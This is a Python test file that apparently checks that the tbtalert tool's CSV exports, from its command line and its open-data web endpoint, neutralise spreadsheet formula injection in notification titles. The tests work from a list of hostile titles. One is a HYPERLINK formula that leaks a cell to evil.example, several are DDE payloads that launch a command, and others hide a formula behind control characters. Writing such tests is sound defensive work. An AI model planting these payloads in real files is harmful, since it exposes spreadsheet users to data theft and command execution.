"""Titles that a spreadsheet would run as formulas, in every CSV tbtalert writes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import requests
from sqlalchemy.engine import Engine

from support.cli import run_tbtalert, tbtalert_env
from support.mailfactory import add_notification
from tbtalert.config import Settings

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def store(engine: Engine) -> None:
    for n, title in enumerate(HOSTILE, start=1):
        add_notification(engine, f"G/TBT/N/USA/{900 + n}", title=title, sectors={"coffee": "x"})


def titles(text: str) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(text)))
    return [row["title"] for row in rows]


def assert_neutralised(cells: list[str]) -> None:
    assert sorted(cells) == sorted("'" + title for title in HOSTILE), cells


def test_the_command_line_export(settings: Settings, engine: Engine, tmp_path: Path) -> None:
    store(engine)
    out = tmp_path / "out.csv"
    env = tbtalert_env(database_url=settings.database_url)
    result = run_tbtalert(
        "export", "notifications", "--format", "csv", "-o", str(out), cwd=tmp_path, env=env
    )
    assert result.returncode == 0, result.stderr
    with out.open(encoding="utf-8", newline="") as fh:  # keep the cell's own "\r"
        assert_neutralised(titles(fh.read()))


def test_the_open_data_csv(web_site: tuple[Settings, Engine, str]) -> None:
    _, engine, base = web_site
    store(engine)
    answer = requests.get(f"{base}/api/notifications.csv", timeout=30)
    assert answer.status_code == 200
    assert_neutralised(titles(answer.text))
